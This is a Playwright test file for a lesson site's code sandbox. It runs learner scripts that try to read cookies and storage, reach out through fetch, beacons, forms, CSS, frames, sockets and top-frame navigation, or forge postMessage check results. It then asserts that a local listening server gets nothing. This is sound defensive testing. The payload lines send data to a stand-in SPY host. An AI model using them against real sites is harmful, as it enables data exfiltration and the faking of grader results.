import assert from 'node:assert/strict'
import { createServer, type Server } from 'node:http'
import { after, before, test } from 'node:test'
import type { Browser, Page } from 'playwright-core'
import type { RunResult } from '#findings'
import type { RunJob } from '../../src/checks/job.ts'
import { findChromium, launchChromium } from '../../src/checks/real-browser.ts'
import { buildBrowser } from '../../tools/build-browser.ts'
import { openLessonSite, type LessonSite } from './lesson-site.ts'

declare const window: { runJob(job: RunJob): Promise<RunResult>; openPreview(): { show(files: object): void } }

let site: LessonSite
let browser: Browser
let page: Page
let listener: Server
let spy = ''
const hits: string[] = []

before(async () => {
  await buildBrowser()
  site = await openLessonSite()
  // Whatever reaches this server got out. It answers everybody, so that nothing fails for want of an answer.
  listener = createServer((request, response) => {
    hits.push(`${request.method ?? ''} ${request.url ?? ''}`)
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('1')
  })
  listener.on('upgrade', (request, socket) => {
    hits.push(`upgrade ${request.url ?? ''}`)
    socket.destroy()
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  const address = listener.address()
  spy = typeof address === 'object' && address ? `127.0.0.1:${address.port}` : ''
  browser = await launchChromium(findChromium() ?? '')
  page = await browser.newPage()
  await page.goto(`${site.address}runner`)
})

after(async () => {
  await browser.close()
  site.close()
  listener.closeAllConnections()
  listener.close()
})

/** Runs her script in a page or a Worker; `SPY` in it is the address of the listening server, `APP` that of our own. */
function attack(script: string, checks: string, language: RunJob['language'] = 'js-dom'): Promise<RunResult> {
  const told = (text: string) => text.replaceAll('SPY', spy).replaceAll('APP', site.address)
  const html = '<!doctype html><html lang="en"><body><h1>Hi</h1><script src="script.js"></script></body></html>'
  const files = { 'index.html': html, 'script.js': told(script) }
  const job = { language, files, checks: told(checks) }
  return page.evaluate((given) => window.runJob(given), job)
}

const rest = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms))

/** Each of these is tried in the frame; `got` is what it gave. Anything but "blocked" is a way out. */
const reads: Record<string, string> = {
  cookie: `document.cookie || 'blocked'`,
  'local storage': `localStorage.length`,
  'session storage': `sessionStorage.length`,
  'the database of the browser': `indexedDB.open('x') && new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no })`,
  caches: `caches.open('x')`,
  'the page around it': `parent.document.title`,
  'the app’s page': `top.document.title`,
  'the app’s address': `top.location.href`,
  'the frame it stands in': `frameElement.id`,
  'another frame': `top.frames[0].document.title`,
  fetch: `fetch('http://SPY/fetch', { mode: 'no-cors' })`,
  'fetch of the app': `fetch('APP')`,
  'an old request': `new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open('GET', 'http://SPY/xhr'); x.send() })`,
  'a service worker': `navigator.serviceWorker.register('data:text/javascript,1')`,
  popup: `window.open('http://SPY/popup') ?? 'blocked'`,
  'a module from outside': `import('http://SPY/module.js')`,
  'a script from outside': `new Promise((yes, no) => document.body.append(Object.assign(document.createElement('script'), { src: 'http://SPY/x.js', onload: yes, onerror: no })))`,
  'a picture': `new Promise((yes, no) => Object.assign(new Image(), { onload: yes, onerror: no }).src = 'http://SPY/image')`,
  'a socket': `new Promise((yes, no) => Object.assign(new WebSocket('ws://SPY/socket'), { onopen: yes, onerror: no }))`,
  'an event stream': `new Promise((yes, no) => Object.assign(new EventSource('http://SPY/events'), { onopen: yes, onerror: no }))`,
  'a call to another computer': `typeof RTCPeerConnection === 'undefined' ? 'blocked' : new RTCPeerConnection()`,
  'a clipboard': `navigator.clipboard.readText()`,
}

test('a learner’s page can read nothing of the app, the browser or the network', async () => {
  for (const [name, code] of Object.entries(reads)) {
    const checks = `check('try', async ({ same }) => {
      let got = 'blocked'
      try { got = await (${code}); if (got !== 'blocked') got = 'got: ' + String(got) } catch {}
      same(got, 'blocked')
    })`
    const run = await attack('', checks)
    // No answer within the check's time is no way out either, as long as nothing arrives.
    const kept = run.verdict === 'pass' || run.checks[0]?.error?.name === 'TooSlow'
    assert.ok(kept, `${name}: ${JSON.stringify(run.checks)}`)
  }
  await rest(300)
  assert.deepEqual(hits, [])
})

const leaks: Record<string, string> = {
  'a beacon': `navigator.sendBeacon('http://SPY/beacon', 'x')`,
  'a form': `document.body.innerHTML = '<form method=post action="http://SPY/form"><input name=a value=b></form>'; document.forms[0].submit()`,
  'a form in a new window': `document.body.innerHTML = '<form target=_blank action="http://SPY/form2"><button>x</button></form>'; document.querySelector('button').click()`,
  prefetch: `for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload', 'icon', 'stylesheet', 'manifest']) document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: 'http://SPY/' + rel }))`,
  'rules of speculation': `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: '{"prefetch":[{"source":"list","urls":["http://SPY/spec"]}]}' }))`,
  'a style': `document.head.append(Object.assign(document.createElement('style'), { textContent: '@import "http://SPY/a.css"; h1 { background: url(http://SPY/b.png) } @font-face { font-family: f; src: url(http://SPY/f) } h1 { font-family: f }' }))`,
  'a frame': `document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://SPY/frame' }))`,
  'a frame of the app': `document.body.append(Object.assign(document.createElement('iframe'), { src: 'APP' }))`,
  'a film, a sound, an object': `document.body.innerHTML = '<video src="http://SPY/v"></video><audio src="http://SPY/a"></audio><object data="http://SPY/o"></object><embed src="http://SPY/e"><svg><image href="http://SPY/s"/></svg>'`,
  'its own address': `location.href = 'http://SPY/leak?secret'`,
  'its own address, by refresh': `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=http://SPY/refresh' }))`,
  'its own address, by a link': `document.body.append(Object.assign(document.createElement('a'), { href: 'http://SPY/link', id: 'l' })); document.querySelector('#l').click()`,
  'a link with a ping': `document.body.append(Object.assign(document.createElement('a'), { href: '#', ping: 'http://SPY/ping', id: 'l' })); document.querySelector('#l').click()`,
  'the address above': `try { top.location = 'http://SPY/top' } catch {}; try { parent.location = 'http://SPY/parent' } catch {}; try { open('http://SPY/open', '_top') } catch {}`,
  'a report': `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: "img-src 'none'; report-uri http://SPY/csp" })); new Image().src = 'data:,x'`,
}

test('the listening server would notice', async () => {
  await fetch(`http://${spy}/control`)
  assert.deepEqual(hits.splice(0), ['GET /control'])
})

test('nothing a learner’s page starts reaches another computer, and the app’s page stays where it is', async () => {
  for (const script of Object.values(leaks)) {
    await attack(script, `check('waits', async () => { await new Promise((yes) => setTimeout(yes, 120)) })`)
    assert.equal(page.url(), `${site.address}runner`)
  }
  await rest(500)
  assert.deepEqual(hits, [])
  assert.equal(await page.title(), 'Runner')
})

test('a script in its Worker can read nothing and reach nobody', async () => {
  const tries: Record<string, string> = {
    fetch: `fetch('http://SPY/w-fetch', { mode: 'no-cors' })`,
    'fetch of the app': `fetch('APP')`,
    'a script from outside': `importScripts('http://SPY/w-import')`,
    'a script of the app': `importScripts('APPbuilt/x.js')`,
    'the database of the browser': `new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no })`,
    'a socket': `new Promise((yes, no) => Object.assign(new WebSocket('ws://SPY/w-socket'), { onopen: yes, onerror: no }))`,
    caches: `caches.open('x')`,
    'a Worker inside it': `new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://SPY/w-w').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = (e) => e.data ? yes() : no(); w.onerror = no })`,
    'its origin': `origin === 'null' ? Promise.reject() : origin`,
  }
  for (const [name, code] of Object.entries(tries)) {
    const checks = `check('try', async ({ same }) => { let got = 'got'; try { await (${code}) } catch { got = 'blocked' } same(got, 'blocked') })`
    const run = await attack('', checks, 'js-pure')
    const kept = run.verdict === 'pass' || run.checks[0]?.error?.name === 'TooSlow'
    assert.ok(kept, `${name}: ${JSON.stringify(run.checks)}`)
  }
  assert.deepEqual(hits, [])
})

test('a page cannot speak for a check by guessing what is said, nor for the one after it', async () => {
  const forge = `const say = (id) => {
      const text = JSON.stringify({ checks: [{ id: 'x', ok: true }], errors: [], printed: [], loopStopped: false, checksBroken: null })
      for (const to of [parent, top, ...Array.from({ length: top.length }, (_, n) => top.frames[n])])
        for (const message of [{ at: 'report', id, text }, { at: 'ready' }, { kind: 'report', id, text }, { do: 'hide', id }]) to.postMessage(message, '*')
    }
    for (const id of ['', 'heart', '0', undefined, null]) say(id)
    setInterval(() => say('1'), 5)`
  const never = `check('never', async ({ isTrue }) => { await new Promise((yes) => setTimeout(yes, 100)); isTrue(false) })`
  assert.equal((await attack(forge, never)).verdict, 'fail')
  assert.equal((await attack('', never)).verdict, 'fail')
  assert.equal(
    (await attack('setInterval(() => postMessage({ id: "x", text: "{}" }), 1)', never, 'js-pure')).verdict,
    'fail',
  )
})

test('what a page breaks in its own world is whole in the next', async () => {
  const breaking = `Array.prototype.push = Array.prototype.map = JSON.stringify = () => { throw new Error('broken') }
    Object.prototype.toJSON = () => 'x'; window.postMessage = null; Promise.prototype.then = null; Function = null`
  await attack(breaking, `check('a', ({ isTrue }) => isTrue(false))`)
  const run = await attack('', `check('a', ({ isTrue }) => isTrue(true))`)
  assert.deepEqual([run.verdict, run.checks], ['pass', [{ id: 'a', ok: true }]])
})

test('her page stays in view while a check hangs, comes back after it, and the next check works', async () => {
  await page.evaluate(() => {
    window.openPreview().show({ 'index.html': '<!doctype html><h1>Live</h1>' })
  })
  const preview = () => page.frameLocator('div:not([aria-hidden]) > iframe').frameLocator('iframe').locator('h1')
  await preview().waitFor()
  const hung = await attack('new Function("while (true);")()', `check('a', ({ isTrue }) => isTrue(true))`)
  assert.equal(hung.stoppedBy, 'wall')
  const started = Date.now()
  assert.equal((await attack('', `check('a', ({ isTrue }) => isTrue(true))`)).verdict, 'pass')
  assert.ok(Date.now() - started < 2500, `the next check took ${Date.now() - started} ms`)
  await preview().waitFor({ timeout: 3000 })
  assert.equal(await preview().textContent(), 'Live')
  assert.deepEqual(hits, [])
})
